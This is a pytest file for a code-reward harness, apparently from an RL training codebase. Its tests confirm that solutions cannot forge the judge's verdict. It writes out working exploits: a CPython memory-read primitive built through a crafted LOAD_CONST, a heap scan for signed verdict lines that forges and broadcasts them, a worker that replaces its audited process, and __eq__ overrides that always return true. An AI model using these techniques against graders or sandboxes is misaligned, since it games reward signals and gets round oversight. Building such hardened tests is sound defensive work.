"""The code reward's judge and worker: the verdict is decided in a process the
solution cannot read, from answers the solution cannot fake.

The forging solution below is a known escape from an earlier harness, written again from its description: a code
object made with ``CodeType.replace`` whose out-of-range ``LOAD_CONST`` yields a bytearray over the
process's memory, a scan of the heap for the harness's signed verdict line, and that line written to
every descriptor. Against the harness of 9405c23 it scores 1.0 with ``add`` returning ``a - b``.
"""

from __future__ import annotations

import json
import textwrap

import pytest

from cispo.data.rewards import _harness
from cispo.data.rewards.code import code_reward, code_reward_partial, run_sandboxed, run_tests
from tests.sandbox_helpers import ADD_TESTS, program

MEMORY = textwrap.dedent('''
    import dis, re, struct, types

    def memory():
        """A bytearray over the whole address space: LOAD_CONST past the end of co_consts (CPython 3.11)."""
        fake = struct.pack("<qQqqQQq", 1 << 40, id(bytearray), (1 << 63) - 1, (1 << 63) - 1, 0, 0, 0)
        consts = (None,)
        holder = struct.pack("<Q", id(fake) + 32)  # bytes data start 32 bytes into the object
        arg = ((id(holder) + 32 - id(consts) - 24) // 8) & 0xFFFFFFFF  # tuple items start at 24
        op = dis.opmap
        code = bytes([op["RESUME"], 0, op["EXTENDED_ARG"], arg >> 24 & 255, op["EXTENDED_ARG"], arg >> 16 & 255,
                      op["EXTENDED_ARG"], arg >> 8 & 255, op["LOAD_CONST"], arg & 255, op["RETURN_VALUE"], 0])
        fn = types.FunctionType((lambda: None).__code__.replace(co_code=code, co_consts=consts, co_stacksize=2), {})
        memory.keep = (fake, holder, consts, fn)
        return fn()

    def heap_search(*patterns):
        """How often each of ``patterns`` occurs in the process's writable anonymous memory and heap (one
        pass; the counting keeps no copy of a match)."""
        mem, counts = memory(), [0] * len(patterns)
        for entry in open("/proc/self/maps"):
            parts = entry.split()
            if parts[1].startswith("rw") and (len(parts) == 5 or parts[5] == "[heap]"):
                lo, hi = (int(x, 16) for x in parts[0].split("-"))
                chunk = mem[lo:hi]
                for i, pattern in enumerate(patterns):
                    counts[i] += sum(1 for _ in re.finditer(pattern, chunk))
        return counts
''')

FORGE = MEMORY + textwrap.dedent('''
    import os
    mem, lines = memory(), set()
    for entry in open("/proc/self/maps"):
        parts = entry.split()
        if parts[1].startswith("rw") and (len(parts) == 5 or parts[5] == "[heap]"):
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            lines.update(re.findall(rb"(?<![0-9])[0-9]+ [0-9]+ [0-9a-f]{64}\\n", mem[lo:hi]))
    print("verdict lines found:", len(lines))
    for line in lines:
        k, n, _ = line.split()
        if k == n:
            for fd in range(3, 64):
                try:
                    os.write(fd, line)
                except OSError:
                    pass

    def add(a, b):
        return a - b
''')


def test_the_memory_exploit_is_real(cfg):
    """The check that the effect under test occurs: outside the harness (no audit hook) the exploit
    reads the process's memory — it finds a marker planted in its own heap."""
    probe = MEMORY + "planted = b'PLANTED-%032x' % 977\nprint('found:', heap_search(rb'PLANTED-0{29}3d1')[0] > 0)\n"
    result = run_sandboxed(probe, cfg)  # a plain run: no harness restrictions
    assert result.ok and "found: True" in result.stdout, result.stderr


def test_a_solution_forging_the_verdict_from_memory_scores_zero(cfg):
    report = run_tests(FORGE, ADD_TESTS, cfg)
    assert report.verified and report.passed == 0, report
    assert "code.__new__ is not allowed" in report.result.stderr  # refused at the first step
    assert code_reward("p", f"```python\n{FORGE}```", tests=ADD_TESTS, config=cfg) == 0.0
    assert code_reward_partial("p", f"```python\n{FORGE}```", tests=ADD_TESTS, config=cfg) == 0.0


EVIL_WORKER = MEMORY + textwrap.dedent('''
    import json, os, sys
    requests, replies = os.fdopen(int(sys.argv[1]), "rb"), os.fdopen(int(sys.argv[2]), "wb")
    planted = b"PLANTED-%032x" % 977
    print("exploit works:", heap_search(rb"PLANTED-0{29}3d1")[0] > 0)
    print("verdict lines found:", heap_search(rb"[0-9]+ [0-9]+ [0-9a-f]{64}\\n")[0])
    # built at run time, so that neither is a constant of this program that the search would find
    # (each search also finds the one copy this program holds: a text no test has is the baseline)
    test_text = ("add(1, 2) " + "=" * 2 + " " + str(len("abc"))).encode()
    control = ("add(7, 8) " + "=" * 2 + " " + str(len("abc") * 5)).encode()
    found, baseline = heap_search(re.escape(test_text), re.escape(control))
    print("test text found:", found - baseline)
    forged = b"3 3 " + b"0" * int("64") + b"\\n"
    for fd in range(3, 64):  # a forged line on every other descriptor
        if fd not in (requests.fileno(), replies.fileno()):
            try:
                os.write(fd, forged)
            except OSError:
                pass
    def send(message):
        replies.write(json.dumps(message).encode() + b"\\n")
        replies.flush()
    send(["ok", ["d", [[["s", "add"], ["h", 0]]]]])  # the answer to the pending "code" request
    for line in requests:
        verb = json.loads(line)[0]
        if verb == "exit":
            break
        if verb == "call":  # an object that claims to equal anything, and the arguments unchanged
            send(["ok", ["l", [["h", 1], ["l", []], ["d", []]]]])
        else:
            send(["ok", True])
    os._exit(0)
''')


def test_a_solution_in_full_control_of_its_process_cannot_forge(cfg):
    """The solution replaces its process by an interpreter with no audit hook (exec keeps the pid and
    the pipes to the judge, descriptors 3 and 4), reads all of its memory, writes forged lines everywhere and answers
    the
    judge's protocol as it likes: nothing of the verdict or the tests is there, and its answers fail."""
    solution = ("import os, sys\nos.set_inheritable(3, True)\nos.set_inheritable(4, True)\n"
                f"os.execv(sys.executable, [sys.executable, '-S', '-u', '-c', {EVIL_WORKER!r}, "
                "'3', '4'])\n")  # the worker's pipes to the judge
    report = run_tests(solution, ADD_TESTS, cfg)
    out = report.result.stdout
    assert "exploit works: True" in out and "verdict lines found: 0" in out, (out, report.result.stderr)
    assert "test text found: 0" in out
    assert report.verified and report.passed == 0, report


def test_answers_cross_as_plain_data_and_handles(cfg):
    solution = program("""
        import collections
        def sort_in_place(items):
            items.sort()
        def count(word):
            return collections.Counter(word)
        class Stack:
            def __init__(self):
                self.items = []
            def push(self, x):
                self.items.append(x)
            def pop(self):
                if not self.items:
                    raise IndexError("pop from an empty stack")
                return self.items.pop()
            def __len__(self):
                return len(self.items)
        def squares(n):
            yield from (i * i for i in range(n))
        LIMIT = 10
    """)
    cases = [
        "xs = [3, 1, 2]\nsort_in_place(xs)\nassert xs == [1, 2, 3]",  # mutations travel back
        "assert count('aab') == {'a': 2, 'b': 1}",  # a dict subclass crosses as a dict
        "s = Stack()\ns.push(1)\ns.push(2.5)\nassert len(s) == 2 and s.pop() == 2.5 and s.items == [1]",
        "s = Stack()\ntry:\n    s.pop()\nexcept IndexError as exc:\n    assert 'empty' in str(exc)\nelse:\n    raise "
        "AssertionError",
        "assert list(squares(4)) == [0, 1, 4, 9] and next(squares(3)) == 0",
        "assert LIMIT == 10 and isinstance(LIMIT, int)",
        "assert Stack() != Stack() and (lambda s: s == s)(Stack())",  # handles compare in the worker
    ]
    report = run_tests(solution, cases, cfg)
    assert report.all_passed, report.result.stderr


def test_objects_of_the_solution_never_equal_plain_data(cfg):
    hacks = {"eq": "def __eq__(self, other):\n        return True",
             "ne": "def __ne__(self, other):\n        return False",
             "lt": "def __lt__(self, other):\n        return True\n    def __gt__(self, other):\n        return True",
             "contains": "def __contains__(self, item):\n        return True"}
    for name, method in hacks.items():
        solution = f"class Anything:\n    {method}\ndef add(a, b):\n    return Anything()\n"
        cases = ["assert add(1, 2) == 3", "assert not add(1, 2) != 3", "assert add(1, 2) < 4 and add(1, 2) > 2",
                 "assert 3 in add(1, 2)"]
        report = run_tests(solution, cases, cfg)
        assert report.verified and report.passed == 0, (name, report.result.stderr)


def test_a_lost_worker_fails_every_later_case_even_under_except_exception(cfg):
    solution = "import os\ndef add(a, b):\n    os._exit(0)\n"
    cases = ["try:\n    add(1, 2)\nexcept Exception:\n    pass", "assert 1 + 1 == 2", "assert add(1, 2) == 3"]
    report = run_tests(solution, cases, cfg)
    # the second case needs nothing of the solution's and passes; the first and last meet the lost worker
    assert report.verified and report.passed == 1, report.result.stderr
    assert "WorkerLost" in report.result.stderr


def test_functions_of_the_tests_do_not_cross(cfg):
    solution = "def apply(f, x):\n    return f(x)\n"
    report = run_tests(solution, ["assert apply(lambda v: v + 1, 1) == 2"], cfg)
    assert report.verified and report.passed == 0
    assert "cannot be passed to the solution" in report.result.stderr


@pytest.mark.parametrize("value", [None, True, 0, -7, 1 << 200, 1.5, float("inf"), -0.0, 2 + 3j, "é\ud800",
                                   b"\x00\xff", bytearray(b"ab"), [1, [2, (3,)]], (), {1, 2}, frozenset({"a"}),
                                   {"k": [1], (1, 2): None}])
def test_plain_values_round_trip_exactly(value):
    tree = json.loads(_harness._dump(_harness.encode(value, lambda v: pytest.fail(f"handle for {v!r}"))))
    back = _harness.decode(tree, lambda i: pytest.fail("no handles here"))
    assert type(back) is type(value) and repr(back) == repr(value)


def test_nan_round_trips_and_subclasses_cross_as_their_plain_type():
    class Sneaky(int):
        def __eq__(self, other):
            return True
    back = _harness.decode(json.loads(_harness._dump(_harness.encode([float("nan"), Sneaky(4)], None))), None)
    assert back[0] != back[0] and type(back[1]) is int and back[1] == 4 and back[1] != 3


@pytest.mark.parametrize("tree", [["x", 1], ["i", 5], ["l", "ab"], ["d", [[1]]], ["S", [["l", []]]], {"i": "1"},
                                  ["h", "0"], ["c", ["0x1p+0"]], "text", 5])
def test_hostile_answers_are_refused_never_run(tree):
    with pytest.raises((ValueError, TypeError)):
        _harness.decode(tree, lambda i: i)


def test_deeply_nested_answers_are_refused():
    tree = None
    for _ in range(_harness.MAX_DEPTH + 5):
        tree = ["l", [tree]]
    with pytest.raises(ValueError, match="nested"):
        _harness.decode(tree, None)
